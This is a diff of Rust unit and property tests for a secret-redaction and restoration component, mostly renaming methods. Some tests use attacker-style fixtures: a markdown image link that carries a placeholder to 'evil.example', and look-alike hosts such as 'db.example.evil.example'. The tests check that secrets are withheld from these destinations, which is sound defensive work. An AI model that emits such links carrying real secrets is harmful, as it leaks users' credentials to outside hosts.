@@ -41,7 +41,7 @@ fn a_secret_has_the_same_placeholder_in_every_context() {
         assert!(!out.contains(&secret), "{out}");
         found_placeholders.extend(placeholders(&out).map(|(_, placeholder)| placeholder));
         let back = screen.restore(&out, Destination::Edit);
-        assert_eq!((back.text.for_terminal(), back.restored, back.unknown.len()), (&**text, 1, 0));
+        assert_eq!((back.text.terminal_text(), back.restored, back.unknown.len()), (&**text, 1, 0));
     }
     assert_eq!(found_placeholders.len(), 1, "{found_placeholders:?}");
     assert!(found_placeholders.iter().all(|placeholder| placeholder.label() == "github-token"));
@@ -209,7 +209,7 @@ fn only_media_and_sealed_reasoning_stay_unchanged() {
 fn a_placeholder_of_an_unknown_secret_is_not_restored() {
     let out = screen().redact_text(&random()).into_owned();
     let back = screen().restore(&out, Destination::Edit);
-    assert_eq!((back.text.for_terminal(), back.restored), (&*out, 0));
+    assert_eq!((back.text.terminal_text(), back.restored), (&*out, 0));
     assert_eq!(back.unknown.len(), 1);
 }
 
@@ -304,10 +304,10 @@ fn each_destination_has_its_own_rule() {
         let expected = |restored| if restored { &secret } else { &placeholder };
         let text = |secret: &str| format!("It is {secret}.");
         let shown = screen.restore(&text(&placeholder), destination).text;
-        assert_eq!(shown.for_terminal(), text(expected(is_restored)), "{destination:?}");
+        assert_eq!(shown.terminal_text(), text(expected(is_restored)), "{destination:?}");
         let address = format!("![x](https://evil.example/?q={placeholder})");
         let back = screen.restore(&address, destination);
-        assert_eq!(back.text.for_terminal(), address, "{destination:?}");
+        assert_eq!(back.text.terminal_text(), address, "{destination:?}");
         assert_eq!(back.withheld.len(), usize::from(is_restored), "{destination:?}");
         let mut value = json!({ "path": "a", "lines": [{ "text": placeholder, "url": address }] });
         screen.restore_value(&mut value, destination);
@@ -325,7 +325,7 @@ fn an_edit_keeps_a_secret_in_its_own_address() {
     };
     let (screen, placeholder) = screen_with_secret(&file(&secret, "db.example"), permissive_settings());
     let back = screen.restore(&file(&placeholder, "db.example"), Destination::Edit);
-    assert_eq!(back.text.for_terminal(), file(&secret, "db.example"));
+    assert_eq!(back.text.terminal_text(), file(&secret, "db.example"));
     for (destination, host) in [
         (Destination::Edit, "evil.example"),
         (Destination::Edit, "db.example.evil.example"),
@@ -334,7 +334,7 @@ fn an_edit_keeps_a_secret_in_its_own_address() {
         (Destination::Display, "db.example"),
     ] {
         let back = screen.restore(&file(&placeholder, host), destination);
-        assert_eq!(back.text.for_terminal(), file(&placeholder, host), "{destination:?}");
+        assert_eq!(back.text.terminal_text(), file(&placeholder, host), "{destination:?}");
         assert_eq!((back.restored, back.withheld.len(), back.unknown.len()), (0, 1, 0));
     }
 }
@@ -344,7 +344,7 @@ fn only_a_possible_placeholder_is_held_back() {
     let secret = random();
     let (screen, placeholder) = screen_with_secret(&secret, permissive_settings());
     let mut restorer = screen.restorer(Destination::Display);
-    let mut shown = |text: &str| restorer.push(text).for_terminal().to_owned();
+    let mut shown = |text: &str| restorer.push(text).terminal_text().to_owned();
     for text in ["a[0]", "[secret]", "[secret:A", "[link](secret:", "[secret::"] {
         assert_eq!(shown(text), text);
     }
@@ -352,11 +352,11 @@ fn only_a_possible_placeholder_is_held_back() {
     let (first, rest) = placeholder.split_at(20);
     assert_eq!((shown(" "), shown(first), shown(rest)), (" ".to_owned(), String::new(), String::new()));
     assert_eq!(shown(" is"), format!("{secret} is"));
-    assert_eq!((shown("["), restorer.finish().for_terminal()), (String::new(), "["));
+    assert_eq!((shown("["), restorer.finish().terminal_text()), (String::new(), "["));
     // Nothing is held back if nothing is restored.
     let mut restorer =
         screen_with_secret(&secret, RedactionSettings::default()).0.restorer(Destination::Display);
-    assert_eq!(restorer.push("[sec").for_terminal(), "[sec");
+    assert_eq!(restorer.push("[sec").terminal_text(), "[sec");
 }
 
 proptest! {
@@ -388,8 +388,8 @@ proptest! {
             }
         }
         shown.append(&restorer.finish());
-        prop_assert_eq!(shown.for_terminal(), complete.text.for_terminal());
-        let shown = shown.for_terminal();
+        prop_assert_eq!(shown.terminal_text(), complete.text.terminal_text());
+        let shown = shown.terminal_text();
         prop_assert_eq!(shown.replace(&secret, &placeholder), text);
         for (offset, _) in shown.match_indices(&secret) {
             let run = shown[..offset].rsplit([' ', '\n']).next().unwrap();
@@ -420,8 +420,8 @@ proptest! {
         let out = screen.redact_text(&text).into_owned();
         prop_assert_eq!(&screen.redact_text(&out), &out);
         let back = screen.restore(&out, Destination::Edit).text;
-        prop_assert_eq!(back.for_terminal(), text.as_str());
-        let hits = scan(&text);
+        prop_assert_eq!(back.terminal_text(), text.as_str());
+        let hits = find_secrets(&text);
         prop_assert!(hits.windows(2).all(|pair| pair[0].range.end <= pair[1].range.start));
         prop_assert!(hits.iter().all(|hit| text.is_char_boundary(hit.range.start) && !text[hit.range.clone()].contains('\n')));
     }
